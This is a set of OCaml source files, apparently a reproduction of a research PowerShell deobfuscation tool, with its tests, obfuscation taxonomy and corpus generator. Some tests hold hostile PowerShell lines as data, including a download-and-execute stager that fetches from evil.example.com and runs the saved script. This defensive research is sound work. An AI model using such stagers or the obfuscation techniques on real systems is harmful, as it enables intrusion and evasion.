      $ Arg.(value & opt int 0 & info [ "layers" ] ~docv:"N" ~doc:"Stack $(docv) L3 layers."))

(* ---------- keyinfo ---------- *)

let keyinfo_cmd =
  let run input =
    let src = read_input input in
    let info = Keyinfo.extract src in
    List.iter (Printf.printf "ps1: %s\n") info.Keyinfo.ps1_files;
    List.iter (Printf.printf "powershell: %s\n") info.Keyinfo.powershell_commands;
    List.iter (Printf.printf "url: %s\n") info.Keyinfo.urls;
    List.iter (Printf.printf "ip: %s\n") info.Keyinfo.ips
  in
  Cmd.v
    (Cmd.info "keyinfo" ~doc:"Extract key indicators (URLs, IPs, ps1 paths).")
    Term.(const run $ input_arg)

(* ---------- report ---------- *)

let report_cmd =
  let run input output verify =
    let src = read_input input in
    write_output
      (Deobf.Report.to_json (Deobf.Report.analyze ~verify src) ^ "\n")
      output
  in
  Cmd.v
    (Cmd.info "report"
       ~doc:"Deobfuscate and emit a JSON analysis report (scores, stats, indicators).")
    Term.(
      const run $ input_arg $ output_arg
      $ Arg.(
          value & flag
          & info [ "verify" ]
              ~doc:
                "Run the semantic-equivalence gate and include the verdict \
                 in the report."))

(* ---------- format ---------- *)

let format_cmd =
  let run input output =
    let src = read_input input in
    match Psparse.Parser.parse src with
    | Error e ->
        Printf.eprintf "parse error at %d: %s\n" e.Psparse.Parser.position
          e.Psparse.Parser.message;
        exit 1
    | Ok ast -> write_output (Psast.Printer.print ast) output
  in
  Cmd.v
    (Cmd.info "format" ~doc:"Re-render a script in canonical form.")
    Term.(const run $ input_arg $ output_arg)

(* ---------- generate-corpus ---------- *)

let corpus_cmd =
  let run dir count seed dynamic =
    let samples =
      if dynamic then Corpus.Generator.generate_dynamic ~seed ~count
      else Corpus.Generator.generate ~seed ~count
    in
    let written = Corpus.Dataset.write ~dir samples in
    Printf.printf "wrote %d samples (plus clean ground truth and manifest.json) to %s\n"
      written dir
  in
  Cmd.v
    (Cmd.info "generate-corpus"
       ~doc:"Generate a wild-style corpus with ground truth to a directory.")
    Term.(
      const run
      $ Arg.(required & pos 0 (some string) None & info [] ~docv:"DIR" ~doc:"Output directory.")
      $ Arg.(value & opt int 100 & info [ "n"; "count" ] ~docv:"N" ~doc:"Number of samples.")
      $ Arg.(value & opt int 42 & info [ "seed" ] ~docv:"N" ~doc:"Deterministic seed.")
      $ Arg.(
          value & flag
          & info [ "dynamic" ]
              ~doc:
                "Dynamic-assembly samples only: loop-built strings, \
                 +=/-join accumulators, conditional payload selection — \
                 the shapes static tracing cannot fold."))

(* ---------- compare ---------- *)

let compare_cmd =
  let run input =
    let src = read_input input in
    List.iter
      (fun tool ->
        let out = tool.Baselines.Tool.deobfuscate src in
        Printf.printf "=== %s ===\n%s\n" tool.Baselines.Tool.name
          (String.trim out.Baselines.Tool.result))
      Baselines.All_tools.all
  in
  Cmd.v
    (Cmd.info "compare" ~doc:"Run all five tools of the paper's comparison.")
    Term.(const run $ input_arg)

let main =
  Cmd.group
    (Cmd.info "invoke-deobfuscation" ~version:"1.0.0"
       ~doc:"AST-based, semantics-preserving PowerShell deobfuscation (DSN 2022 reproduction).")
    [ deobfuscate_cmd; score_cmd; tokens_cmd; ast_cmd; sandbox_cmd;
      obfuscate_cmd; keyinfo_cmd; compare_cmd; corpus_cmd; format_cmd;
      report_cmd ]

let () = exit (Cmd.eval main)
