(* Tests for corpus generation, preprocessing, key-info extraction and the
   behaviour sandbox. *)

open Pscommon

let check_s = Alcotest.(check string)
let check_b = Alcotest.(check bool)
let check_i = Alcotest.(check int)

(* ---------- generator ---------- *)

let test_generation_deterministic () =
  let a = Corpus.Generator.generate ~seed:5 ~count:10 in
  let b = Corpus.Generator.generate ~seed:5 ~count:10 in
  List.iter2
    (fun x y ->
      check_s "same clean" x.Corpus.Generator.clean y.Corpus.Generator.clean;
      check_s "same obfuscated" x.Corpus.Generator.obfuscated y.Corpus.Generator.obfuscated)
    a b;
  let c = Corpus.Generator.generate ~seed:6 ~count:10 in
  check_b "different seed differs" true
    ((List.hd a).Corpus.Generator.obfuscated
    <> (List.hd c).Corpus.Generator.obfuscated)

let test_generated_samples_valid () =
  List.iter
    (fun s ->
      check_b "clean valid" true
        (Psparse.Parser.is_valid_syntax s.Corpus.Generator.clean);
      check_b "obfuscated valid" true
        (Psparse.Parser.is_valid_syntax s.Corpus.Generator.obfuscated))
    (Corpus.Generator.generate ~seed:8 ~count:40)

let test_sized_generation () =
  let samples =
    Corpus.Generator.generate_sized ~seed:9 ~count:20 ~min_bytes:97 ~max_bytes:2048
  in
  check_b "nonempty" true (List.length samples > 0);
  List.iter
    (fun s ->
      let n = String.length s.Corpus.Generator.obfuscated in
      check_b "in window" true (n >= 97 && n <= 2048))
    samples

let test_multilayer_generation () =
  let samples =
    Corpus.Generator.generate_multilayer ~seed:10 ~count:5 ~min_depth:2 ~max_depth:3
  in
  check_i "count" 5 (List.length samples);
  List.iter
    (fun s ->
      check_b "has key info" true
        (Keyinfo.count (Keyinfo.extract s.Corpus.Generator.clean) > 0);
      check_b "valid" true (Psparse.Parser.is_valid_syntax s.Corpus.Generator.obfuscated))
    samples

let test_templates_have_behavior () =
  let rng = Rng.of_int 123 in
  let with_network = ref 0 in
  for _ = 1 to 30 do
    let _, clean = Corpus.Templates.generate rng in
    if Sandbox.has_network_behavior (Sandbox.run clean) then incr with_network
  done;
  check_b "most templates reach the network" true (!with_network > 20)

(* ---------- preprocessing ---------- *)

let test_preprocess_rejects_junk () =
  let rng = Rng.of_int 3 in
  let junk = Corpus.Preprocess.junk_samples rng in
  let { Corpus.Preprocess.kept; rejected } = Corpus.Preprocess.run junk in
  check_i "all junk rejected" 0 (List.length kept);
  check_i "rejections recorded" (List.length junk) (List.length rejected)

let test_preprocess_keeps_powershell () =
  let { Corpus.Preprocess.kept; _ } =
    Corpus.Preprocess.run [ "write-host hello"; "$x = 1 + 2" ]
  in
  check_i "both kept" 2 (List.length kept)

let test_preprocess_structural_dedup () =
  (* same structure, different strings: family variants collapse *)
  let a = "(New-Object Net.WebClient).DownloadString('http://one.example/a')" in
  let b = "(New-Object Net.WebClient).DownloadString('http://two.example/b')" in
  let c = "write-host different" in
  let { Corpus.Preprocess.kept; rejected } = Corpus.Preprocess.run [ a; b; c ] in
  check_i "one of the pair plus c" 2 (List.length kept);
  check_b "dup recorded" true
    (List.exists
       (fun (_, why) -> why = Corpus.Preprocess.Structural_duplicate)
       rejected)

let test_preprocess_single_string () =
  let { Corpus.Preprocess.rejected; _ } = Corpus.Preprocess.run [ "'just a string'" ] in
  check_b "single string rejected" true
    (List.exists (fun (_, why) -> why = Corpus.Preprocess.Single_string) rejected)

(* ---------- keyinfo ---------- *)

let test_keyinfo_extraction () =
  let src =
    "$u = 'https://evil.example.com/stage2.txt'\n\
     (New-Object Net.WebClient).DownloadFile($u, 'C:\\Users\\Public\\run.ps1')\n\
     powershell -File C:\\Users\\Public\\run.ps1\n\
     $ip = '10.1.2.3'"
  in
  let info = Keyinfo.extract src in
  check_b "url" true (List.mem "https://evil.example.com/stage2.txt" info.Keyinfo.urls);
  check_b "ip" true (List.mem "10.1.2.3" info.Keyinfo.ips);
  check_b "ps1" true
    (List.exists (fun p -> Strcase.contains ~needle:"run.ps1" p) info.Keyinfo.ps1_files);
  check_i "powershell command" 1 (List.length info.Keyinfo.powershell_commands)

let test_keyinfo_rejects_bad_ips () =
  let info = Keyinfo.extract "'999.1.2.3' and '1.2.3.4'" in
  Alcotest.(check (list string)) "only valid" [ "1.2.3.4" ] info.Keyinfo.ips

let test_keyinfo_dedup () =
  let info = Keyinfo.extract "'http://a.example/x' ; 'HTTP://A.EXAMPLE/x'" in
  check_i "caseless dedup" 1 (List.length info.Keyinfo.urls)

let test_keyinfo_intersection () =
  let ground = Keyinfo.extract "'http://a.example/1' '2.2.2.2'" in
  let got = Keyinfo.extract "'http://a.example/1' '3.3.3.3'" in
  let inter = Keyinfo.intersection ~ground_truth:ground got in
  check_i "only common counted" 1 (Keyinfo.count inter)

(* ---------- sandbox ---------- *)

let test_sandbox_records_and_compares () =
  let a = Sandbox.run "(New-Object Net.WebClient).DownloadString('http://one.example/') | Out-Null" in
  let b = Sandbox.run "$u = 'http://one.example/'; (New-Object Net.WebClient).DownloadString($u) | Out-Null" in
  let c = Sandbox.run "(New-Object Net.WebClient).DownloadString('http://other.example/') | Out-Null" in
  check_b "a has network" true (Sandbox.has_network_behavior a);
  check_b "same" true (Sandbox.same_network_behavior a b);
  check_b "different" false (Sandbox.same_network_behavior a c)

let test_sandbox_effective_requires_change () =
  let src = "(New-Object Net.WebClient).DownloadString('http://x.example/') | Out-Null" in
  check_b "unchanged is not effective" false
    (Sandbox.effective ~original:src ~deobfuscated:src);
  check_b "equivalent rewrite is effective" true
    (Sandbox.effective ~original:src
       ~deobfuscated:
         "$u = 'http://x.example/'; (New-Object Net.WebClient).DownloadString($u) | Out-Null")

let test_sandbox_error_keeps_events () =
  let report = Sandbox.run "Start-Sleep 1; undefined-cmdlet-xyz !!!" in
  check_b "events kept despite error" true
    (List.exists
       (fun e -> Pseval.Env.event_to_string e = "sleep:1")
       report.Sandbox.events)

let test_sandbox_network_signature_sorted_unique () =
  let report =
    Sandbox.run
      "(New-Object Net.WebClient).DownloadString('http://b.example/') | Out-Null\n\
       (New-Object Net.WebClient).DownloadString('http://b.example/') | Out-Null\n\
       (New-Object Net.WebClient).DownloadString('http://a.example/') | Out-Null"
  in
  Alcotest.(check (list string)) "sorted unique"
    [ "http-get:http://a.example/"; "http-get:http://b.example/" ]
    (Sandbox.network_signature report)

let test_dataset_write () =
  let dir = Filename.temp_file "corpus" "" in
  Sys.remove dir;
  let samples = Corpus.Generator.generate ~seed:77 ~count:4 in
  let written = Corpus.Dataset.write ~dir samples in
  check_i "count" 4 written;
  check_b "manifest exists" true (Sys.file_exists (Filename.concat dir "manifest.json"));
  check_b "sample exists" true (Sys.file_exists (Filename.concat dir "sample_0000.ps1"));
  let sample =
    In_channel.with_open_bin (Filename.concat dir "sample_0002.ps1") In_channel.input_all
  in
  check_s "content matches" (List.nth samples 2).Corpus.Generator.obfuscated sample

let suite =
  [
    ("generation deterministic", `Quick, test_generation_deterministic);
    ("generated samples valid", `Quick, test_generated_samples_valid);
    ("sized generation", `Quick, test_sized_generation);
    ("multilayer generation", `Quick, test_multilayer_generation);
    ("templates have behavior", `Quick, test_templates_have_behavior);
    ("preprocess rejects junk", `Quick, test_preprocess_rejects_junk);
    ("preprocess keeps powershell", `Quick, test_preprocess_keeps_powershell);
    ("preprocess structural dedup", `Quick, test_preprocess_structural_dedup);
    ("preprocess single string", `Quick, test_preprocess_single_string);
    ("keyinfo extraction", `Quick, test_keyinfo_extraction);
    ("keyinfo bad ips", `Quick, test_keyinfo_rejects_bad_ips);
    ("keyinfo dedup", `Quick, test_keyinfo_dedup);
    ("keyinfo intersection", `Quick, test_keyinfo_intersection);
    ("sandbox record/compare", `Quick, test_sandbox_records_and_compares);
    ("sandbox effectiveness rule", `Quick, test_sandbox_effective_requires_change);
    ("sandbox error keeps events", `Quick, test_sandbox_error_keeps_events);
    ("sandbox signature sorted", `Quick, test_sandbox_network_signature_sorted_unique);
    ("dataset write", `Quick, test_dataset_write);
  ]
