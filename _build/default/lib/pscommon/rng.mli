(** Deterministic pseudo-random numbers (SplitMix64).

    Corpus generation and the obfuscator must be reproducible: the same seed
    always yields the same corpus, so experiment tables are stable across
    runs and machines. *)

type t

val create : int64 -> t
(** Fresh generator from a seed. *)

val of_int : int -> t

val split : t -> t
(** Derive an independent generator; the parent advances. *)

val copy : t -> t

val next_int64 : t -> int64
(** Next raw 64-bit value. *)

val int : t -> int -> int
(** [int t bound] is uniform in [\[0, bound)].
    @raise Invalid_argument if [bound <= 0]. *)

val int_in : t -> int -> int -> int
(** [int_in t lo hi] is uniform in [\[lo, hi\]] (inclusive). *)

val bool : t -> bool
val float : t -> float -> float

val chance : t -> float -> bool
(** [chance t p] is true with probability [p]. *)

val pick : t -> 'a list -> 'a
(** Uniform choice. @raise Invalid_argument on empty list. *)

val pick_weighted : t -> (float * 'a) list -> 'a
(** Choice proportional to weight. @raise Invalid_argument if all weights
    are nonpositive or the list is empty. *)

val shuffle : t -> 'a list -> 'a list
(** Uniform random permutation. *)

val sample : t -> int -> 'a list -> 'a list
(** [sample t k xs] draws [min k (length xs)] elements without replacement,
    preserving no particular order. *)

val lowercase_letter : t -> char
val letter : t -> char
val alnum : t -> char

val ident : t -> min_len:int -> max_len:int -> string
(** Random identifier: a letter followed by alphanumerics. *)
