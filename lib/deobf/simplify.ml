(** Post-recovery cleanup: a parenthesised literal left behind by in-place
    replacement — [('recovered')] where the obfuscated expression used to
    be — reduces to the literal itself when the surrounding syntax allows
    it. *)

module A = Psast.Ast

let literal_inside (paren_body : A.t) =
  match paren_body.A.node with
  | A.Pipeline [ { A.node = A.Command_expression inner; _ } ] -> (
      match inner.A.node with
      | A.String_const (_, (A.Single_quoted | A.Double_quoted)) ->
          Some (`Str, inner)
      | A.Number_const _ -> Some (`Num, inner)
      | _ -> None)
  | _ -> None

(** Simplify an already-parsed script ([ast] must be the parse of [src]).
    [None] when nothing reduces or the reduction would break the script;
    [Some (patched, ast')] carries the validated parse of the result so a
    fixpoint driver can thread it onward without re-parsing. *)
let run_shared ?log ?(pass = 0) ?(suppress = []) ~ast src =
  let edits = ref [] in
  let add node replacement =
    if
      Quarantine.admits ~phase:"simplify" ~kind:"paren"
      && (suppress = []
         || not
              (Editlog.suppressed suppress ~phase:"simplify"
                 ~before:(A.text src node) ~after:replacement))
    then edits := Pscommon.Patch.edit node.A.extent replacement :: !edits
  in
  ignore
    (A.fold_post_order_with_ancestors
       (fun ancestors () node ->
         match node.A.node with
         | A.Paren_expr body -> (
             match literal_inside body with
             | Some (kind, inner) ->
                 (* a number literal still needs its parens before
                    member access or indexing: (5).ToString() *)
                 let parent_needs_parens =
                   match (kind, ancestors) with
                   | `Num,
                     ({ A.node =
                          ( A.Member_access _ | A.Invoke_member _
                          | A.Index_expr _ );
                        _ }
                      :: _) ->
                       true
                   (* keep parens in command position: `.('iex') …` is
                      the recovered-launcher form the paper shows *)
                   | _, ({ A.node = A.Command _; _ } :: _) -> true
                   | _ -> false
                 in
                 if not parent_needs_parens then add node (A.text src inner)
             | None -> ())
         | _ -> ())
       () ast);
  if !edits = [] then None
  else
    match Pscommon.Patch.apply src !edits with
    | patched when not (String.equal patched src) -> (
        match Psparse.Parser.parse patched with
        | Ok patched_ast ->
            Pscommon.Telemetry.Metrics.incr
              ~by:(List.length !edits)
              (Pscommon.Telemetry.Metrics.counter "simplify.rule.paren");
            Option.iter
              (fun l ->
                Editlog.record_stage l ~phase:"simplify" ~pass ~src
                  (List.map (fun e -> (e, "paren")) !edits))
              log;
            Some (patched, patched_ast)
        | Error _ -> None)
    | _ -> None
    | exception Invalid_argument _ -> None

let run src =
  match Psparse.Parser.parse src with
  | Error _ -> src
  | Ok ast -> (
      match run_shared ~ast src with Some (patched, _) -> patched | None -> src)
