lib/obfuscator/obfuscate.mli: Pscommon Technique
