test/test_psvalue.ml: Alcotest Gen List Pseval Psparse Psvalue QCheck QCheck_alcotest String
