let alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"

let encode s =
  let n = String.length s in
  let buf = Buffer.create ((n + 2) / 3 * 4) in
  let byte i = Char.code s.[i] in
  let rec loop i =
    if i + 3 <= n then begin
      let b = (byte i lsl 16) lor (byte (i + 1) lsl 8) lor byte (i + 2) in
      Buffer.add_char buf alphabet.[(b lsr 18) land 63];
      Buffer.add_char buf alphabet.[(b lsr 12) land 63];
      Buffer.add_char buf alphabet.[(b lsr 6) land 63];
      Buffer.add_char buf alphabet.[b land 63];
      loop (i + 3)
    end
    else if i + 2 = n then begin
      let b = (byte i lsl 16) lor (byte (i + 1) lsl 8) in
      Buffer.add_char buf alphabet.[(b lsr 18) land 63];
      Buffer.add_char buf alphabet.[(b lsr 12) land 63];
      Buffer.add_char buf alphabet.[(b lsr 6) land 63];
      Buffer.add_char buf '='
    end
    else if i + 1 = n then begin
      let b = byte i lsl 16 in
      Buffer.add_char buf alphabet.[(b lsr 18) land 63];
      Buffer.add_char buf alphabet.[(b lsr 12) land 63];
      Buffer.add_string buf "=="
    end
  in
  loop 0;
  Buffer.contents buf

let value_of_char c =
  match c with
  | 'A' .. 'Z' -> Some (Char.code c - Char.code 'A')
  | 'a' .. 'z' -> Some (Char.code c - Char.code 'a' + 26)
  | '0' .. '9' -> Some (Char.code c - Char.code '0' + 52)
  | '+' -> Some 62
  | '/' -> Some 63
  | _ -> None

let is_space c = c = ' ' || c = '\t' || c = '\n' || c = '\r'

let decode s =
  let buf = Buffer.create (String.length s * 3 / 4) in
  let acc = ref 0 and bits = ref 0 and seen_pad = ref false in
  let error = ref None in
  String.iter
    (fun c ->
      match !error with
      | Some _ -> ()
      | None ->
          if is_space c then ()
          else if c = '=' then seen_pad := true
          else if !seen_pad then error := Some "base64: data after padding"
          else
            match value_of_char c with
            | None -> error := Some (Printf.sprintf "base64: invalid character %C" c)
            | Some v ->
                acc := (!acc lsl 6) lor v;
                bits := !bits + 6;
                if !bits >= 8 then begin
                  bits := !bits - 8;
                  Buffer.add_char buf (Char.chr ((!acc lsr !bits) land 0xFF))
                end)
    s;
  match !error with
  | Some msg -> Error msg
  | None ->
      if !bits >= 6 then Error "base64: truncated final group"
      else Ok (Buffer.contents buf)

let decode_exn s =
  match decode s with Ok v -> v | Error msg -> invalid_arg msg

let is_plausible s =
  let core =
    match String.index_opt s '=' with
    | Some i -> String.sub s 0 i
    | None -> s
  in
  String.length s >= 16
  && String.length s mod 4 = 0
  && String.for_all (fun c -> value_of_char c <> None) core
  && (match decode s with Ok _ -> true | Error _ -> false)
