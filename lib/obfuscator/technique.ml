(** The obfuscation-technique taxonomy of the paper (Table II).

    Levels follow §II-B: L1 only affects text/readability, L2 changes lexical
    features and AST shape but keeps character-level information, L3 also
    hides character-level information. *)

type t =
  (* L1 — randomization & alias *)
  | Ticking
  | Whitespacing
  | Random_case
  | Random_name
  | Alias_sub
  (* L2 — string-related *)
  | Str_concat
  | Str_reorder
  | Str_replace
  | Str_reverse
  (* L3 — encodings and wrappers *)
  | Enc_binary
  | Enc_octal
  | Enc_ascii
  | Enc_hex
  | Enc_base64
  | Enc_whitespace
  | Enc_specialchar
  | Enc_bxor
  | Secure_string_enc
  | Deflate_compress
  (* dynamic — the value is assembled at run time (loop-carried builds,
     accumulator folds, conditional selection), putting it beyond the
     static tracer's reach; level 2 by the paper's taxonomy (AST shape
     changes, character-level information preserved) *)
  | Loop_build
  | Accum_join
  | Cond_payload

let all =
  [ Ticking; Whitespacing; Random_case; Random_name; Alias_sub; Str_concat;
    Str_reorder; Str_replace; Str_reverse; Enc_binary; Enc_octal; Enc_ascii;
    Enc_hex; Enc_base64; Enc_whitespace; Enc_specialchar; Enc_bxor;
    Secure_string_enc; Deflate_compress; Loop_build; Accum_join; Cond_payload ]

let level = function
  | Ticking | Whitespacing | Random_case | Random_name | Alias_sub -> 1
  | Str_concat | Str_reorder | Str_replace | Str_reverse | Loop_build
  | Accum_join | Cond_payload ->
      2
  | Enc_binary | Enc_octal | Enc_ascii | Enc_hex | Enc_base64 | Enc_whitespace
  | Enc_specialchar | Enc_bxor | Secure_string_enc | Deflate_compress ->
      3

let name = function
  | Ticking -> "ticking"
  | Whitespacing -> "whitespacing"
  | Random_case -> "random-case"
  | Random_name -> "random-name"
  | Alias_sub -> "alias"
  | Str_concat -> "concatenate"
  | Str_reorder -> "reorder"
  | Str_replace -> "replace"
  | Str_reverse -> "reverse"
  | Enc_binary -> "encode-binary"
  | Enc_octal -> "encode-octal"
  | Enc_ascii -> "encode-ascii"
  | Enc_hex -> "encode-hex"
  | Enc_base64 -> "encode-base64"
  | Enc_whitespace -> "encode-whitespace"
  | Enc_specialchar -> "encode-specialchar"
  | Enc_bxor -> "encode-bxor"
  | Secure_string_enc -> "securestring"
  | Deflate_compress -> "compress-deflate"
  | Loop_build -> "loop-build"
  | Accum_join -> "accumulate-join"
  | Cond_payload -> "conditional-payload"

let of_name s =
  List.find_opt (fun t -> String.equal (name t) s) all

(* the dynamic-assembly techniques stay out of the per-level pools so the
   wild-mix draw sequence — and thus every seeded corpus — is unchanged by
   their addition; corpus generation targets them explicitly instead *)
let dynamic = [ Loop_build; Accum_join; Cond_payload ]
let pooled t = not (List.mem t dynamic)
let l1 = List.filter (fun t -> level t = 1 && pooled t) all
let l2 = List.filter (fun t -> level t = 2 && pooled t) all
let l3 = List.filter (fun t -> level t = 3 && pooled t) all
