(** Ablations of the design choices DESIGN.md calls out.

    Four engine variants against the full tool, measured on a wild corpus
    by average score reduction and behavioural consistency:
    {ul
    {- no variable tracing — pieces with variables stay obfuscated;}
    {- no token phase — L1 mitigation collapses;}
    {- no blocklist — recovery executes side-effecting pieces (refused by
       the Recovery interpreter, so pieces are lost {e and} time is wasted);}
    {- no multi-layer unwrapping — IEX payloads stay encoded.}} *)

type variant = { name : string; options : Deobf.Engine.options }

let variants =
  let base = Deobf.Engine.default_options in
  [
    { name = "full"; options = base };
    { name = "no-tracing";
      options = { base with recovery = { base.recovery with use_tracing = false } } };
    { name = "no-token-phase"; options = { base with token_phase = false } };
    { name = "no-blocklist";
      options = { base with recovery = { base.recovery with use_blocklist = false } } };
    { name = "no-multilayer";
      options = { base with recovery = { base.recovery with use_multilayer = false } } };
  ]

type row = {
  variant : string;
  avg_score_reduced : float;
  behavior_consistent : int;
  samples_with_network : int;
  key_info_recovered : int;  (** vs the clean scripts' ground truth *)
  key_info_total : int;
  mean_time_s : float;
}

let run ?(seed = 31337) ?(count = 40) () =
  let samples = Corpus.Generator.generate ~seed ~count in
  List.map
    (fun v ->
      let reductions = ref [] in
      let consistent = ref 0 and with_network = ref 0 in
      let key_got = ref 0 and key_total = ref 0 in
      let t0 = Unix.gettimeofday () in
      List.iter
        (fun s ->
          let input = s.Corpus.Generator.obfuscated in
          let result = Deobf.Engine.run ~options:v.options input in
          let output = result.Deobf.Engine.output in
          let sb = Deobf.Score.score input and sa = Deobf.Score.score output in
          if sb > 0 then
            reductions := (float_of_int (sb - sa) /. float_of_int sb) :: !reductions;
          let ground = Keyinfo.extract s.Corpus.Generator.clean in
          key_total := !key_total + Keyinfo.count ground;
          key_got :=
            !key_got
            + Keyinfo.count (Keyinfo.intersection ~ground_truth:ground (Keyinfo.extract output));
          let orig_run = Sandbox.run input in
          if Sandbox.has_network_behavior orig_run then begin
            incr with_network;
            if Sandbox.same_network_behavior orig_run (Sandbox.run output) then
              incr consistent
          end)
        samples;
      let elapsed = Unix.gettimeofday () -. t0 in
      let avg =
        match !reductions with
        | [] -> 0.0
        | rs -> 100.0 *. List.fold_left ( +. ) 0.0 rs /. float_of_int (List.length rs)
      in
      {
        variant = v.name;
        avg_score_reduced = avg;
        behavior_consistent = !consistent;
        samples_with_network = !with_network;
        key_info_recovered = !key_got;
        key_info_total = !key_total;
        mean_time_s = elapsed /. float_of_int count;
      })
    variants

let print rows =
  Printf.printf "Ablation: engine variants on a wild corpus\n";
  Printf.printf "  %-16s %12s %20s %12s %12s\n" "Variant" "AvgReduced"
    "BehaviorConsistent" "KeyInfo" "mean time";
  List.iter
    (fun r ->
      Printf.printf "  %-16s %11.1f%% %12d/%-7d %6d/%-5d %10.3fs\n" r.variant
        r.avg_score_reduced r.behavior_consistent r.samples_with_network
        r.key_info_recovered r.key_info_total r.mean_time_s)
    rows
