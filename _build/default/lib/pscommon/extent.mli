(** Source extents: half-open byte ranges [start, stop) into a script text.

    Every token and AST node carries an extent so that deobfuscation can
    replace obfuscated pieces {e in place} — the property the paper relies on
    for semantics preservation. *)

type t = {
  start : int;  (** inclusive byte offset of the first character *)
  stop : int;  (** exclusive byte offset one past the last character *)
}

val make : start:int -> stop:int -> t
(** [make ~start ~stop] is the extent [\[start, stop)].
    @raise Invalid_argument if [stop < start] or [start < 0]. *)

val empty_at : int -> t
(** [empty_at pos] is the zero-width extent at [pos]. *)

val length : t -> int
(** Number of bytes covered. *)

val is_empty : t -> bool

val contains : t -> t -> bool
(** [contains outer inner] is true when [inner] lies entirely within
    [outer].  An extent contains itself. *)

val overlaps : t -> t -> bool
(** True when the two extents share at least one byte. *)

val before : t -> t -> bool
(** [before a b] is true when [a] ends at or before the start of [b]. *)

val union : t -> t -> t
(** Smallest extent covering both arguments. *)

val text : string -> t -> string
(** [text src e] is the substring of [src] covered by [e].
    @raise Invalid_argument if [e] does not fit in [src]. *)

val shift : t -> int -> t
(** [shift e delta] translates both endpoints by [delta]. *)

val compare : t -> t -> int
(** Order by start offset, then by stop offset. *)

val equal : t -> t -> bool

val pp : Format.formatter -> t -> unit
(** Prints as [\[start,stop)]. *)
