(** Fixed-size domain pool: parallel map over a work queue with
    deterministic, input-ordered results.

    Built for batch deobfuscation: each work item is independent, already
    totalised by {!Guard.protect}, and its result slot is private to the
    item, so the only shared state is the index counter.  Worker domains
    pull the next index atomically; results land in a pre-sized array, so
    the output order is the input order regardless of scheduling. *)

val recommended_jobs : unit -> int
(** [Domain.recommended_domain_count ()] — the hardware's parallelism. *)

val map : ?jobs:int -> ('a -> 'b) -> 'a list -> 'b list
(** [map ~jobs f items] applies [f] to every item, running up to [jobs]
    domains (the calling domain counts as one).  [jobs <= 1] runs
    sequentially in the calling domain, spawning nothing.  Results are in
    input order.  If [f] raises, the exception with the lowest input index
    is re-raised after all workers have drained (callers in this codebase
    pass total functions, so this is a backstop, not a protocol).

    Parallel runs feed the {!Telemetry.Metrics} registry: histograms
    [pool.queue_wait_ms] (pool start → claim) and [pool.run_ms] per item,
    counters [pool.tasks.d<k>] per worker domain, gauge [pool.jobs]. *)

val iter : ?jobs:int -> ('a -> unit) -> 'a list -> unit
(** [iter ~jobs f items] — {!map} with unit results. *)

(** Persistent bounded-queue worker pool — the daemon-shaped counterpart of
    {!map}.  A fixed set of worker domains drains a bounded queue for the
    life of the process; the bound is the admission-control contract:
    {!Service.submit} never blocks and never grows memory, it simply
    refuses when full so the caller can shed the request explicitly. *)
module Service : sig
  type 'a t

  (** Supervision contract for {!create}'s [?supervise].  OCaml domains
      cannot be killed, so "preemption" is cooperative at the edges: the
      supervisor {e answers the victim} ([sv_on_wedged], e.g. send the
      structured [wedged] error), abandons the wedged domain (it exits when
      its handler eventually returns and its loop sees the abandoned flag),
      and installs a fresh domain in the slot. *)
  type 'a supervision = {
    sv_grace_s : float;
        (** patience past the item's deadline before declaring a wedge — a
            slow-but-polling worker raises its own cooperative timeout at
            the next checkpoint, so only a frozen one survives this long *)
    sv_deadline_of : 'a -> float;
        (** the item's admission deadline (epoch seconds; [infinity] never
            wedges) *)
    sv_describe : 'a -> string;  (** for logs and flight-recorder dumps *)
    sv_on_wedged : 'a -> unit;
        (** answer the victim; runs on the supervisor domain, must not
            block indefinitely *)
    sv_should_recycle : unit -> bool;
        (** polled between requests; [true] retires the worker (counted in
            [pool.service.recycled_mem]) and respawns a fresh domain —
            the memory governor's hard-watermark hook *)
  }

  val respawn_backoff : int -> float
  (** [respawn_backoff n] — delay in seconds after [n] consecutive respawn
      failures: [0.05 * 2^(n-1)] capped at 5s, [0] for [n <= 0].  Exposed
      (pure) so the monotone crash-loop progression is testable. *)

  val create :
    jobs:int -> queue_cap:int -> ?supervise:'a supervision -> ('a -> unit) -> 'a t
  (** [create ~jobs ~queue_cap handler] spawns [max 1 jobs] worker domains
      (the caller is {e not} a worker — it keeps its own loop, e.g. the
      accept loop) that each pop items and run [handler].  A handler that
      raises costs that one item (logged, counted in
      [pool.service.recycled], and — when the {!Telemetry.Flight} recorder
      is enabled — dumped as a flight-recorder JSONL black box) — the
      worker recycles and keeps serving.

      [supervise] additionally spawns a watchdog domain that scans worker
      heartbeat slots (deadline, current item, progress cell published via
      {!Guard.set_progress_cell} / {!Guard.beat}): a worker still busy past
      its item's deadline plus [sv_grace_s] is declared wedged — counted in
      [pool.service.wedged], dumped to the flight recorder, its request
      answered via [sv_on_wedged], its domain abandoned and its slot
      respawned.  Respawns (counted in [pool.service.respawns]) pass
      through the ["serve.respawn"] chaos site; failures (counted in
      [pool.service.respawn_failures]) back off exponentially per
      {!respawn_backoff}.  Abandoned domains that eventually finish are
      reaped; [pool.service.zombies] gauges those still running.

      Queue wait and run time feed the shared [pool.queue_wait_ms] /
      [pool.run_ms] histograms; [pool.service.depth] gauges the queue. *)

  val submit : 'a t -> 'a -> bool
  (** Enqueue without blocking.  [false] means shed: the queue is at
      [queue_cap] or the pool is shutting down, and the item was {e not}
      accepted. *)

  val depth : 'a t -> int
  (** Items queued and not yet claimed by a worker. *)

  val inflight : 'a t -> int
  (** Items currently being handled by workers (wedged handlers included
      until their domain actually exits). *)

  val shutdown : 'a t -> unit
  (** Graceful drain: stop accepting, let workers finish every item already
      queued, then join them.  Under supervision the watchdog keeps
      scanning during the drain (a wedge mid-drain is still answered and
      replaced), joins of wedged domains are bounded, and a domain that
      never exits is leaked with a warning instead of hanging the drain. *)
end
