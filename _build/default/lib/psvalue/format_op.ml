(** The [-f] format operator.

    Implements .NET composite formatting far enough for obfuscation:
    [{index}], [{index,alignment}], [{index:format}] with [D]/[X]/[N]
    numeric formats, and [{{]/[}}] escapes.  String reordering obfuscation
    ("{2}{0}{1}" -f ...) is the paper's canonical L2 technique. *)

exception Format_error of string

let fail fmt = Printf.ksprintf (fun s -> raise (Format_error s)) fmt

let apply_numeric_format spec (v : Value.t) =
  if spec = "" then Value.to_string v
  else
    let kind = Char.uppercase_ascii spec.[0] in
    let width =
      if String.length spec > 1 then
        match int_of_string_opt (String.sub spec 1 (String.length spec - 1)) with
        | Some w -> w
        | None -> 0
      else 0
    in
